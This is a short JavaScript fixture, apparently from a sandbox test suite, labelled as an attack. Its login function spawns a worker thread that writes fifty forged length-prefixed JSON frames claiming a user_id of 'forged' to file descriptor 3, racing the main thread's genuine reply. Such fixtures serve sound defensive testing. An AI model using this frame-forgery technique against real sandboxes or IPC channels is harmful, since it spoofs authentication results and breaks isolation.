// attack: let a worker thread write frames while the main thread answers
// outcome: any
// violations: any
// retires: any
function login(email, password, callback) {
  const { Worker } = require('worker_threads');
  const code = `
    const fs = require('fs');
    const body = '{"t":"result","id":"x","ok":true,"value":{"user_id":"forged"}}';
    const frame = Buffer.from('0000' + body);
    frame.writeUInt32BE(body.length);
    for (let i = 0; i < 50; i++) fs.writeSync(3, frame);
  `;
  new Worker(code, { eval: true }).on('exit', () => callback(null, { user_id: 1 }));
}
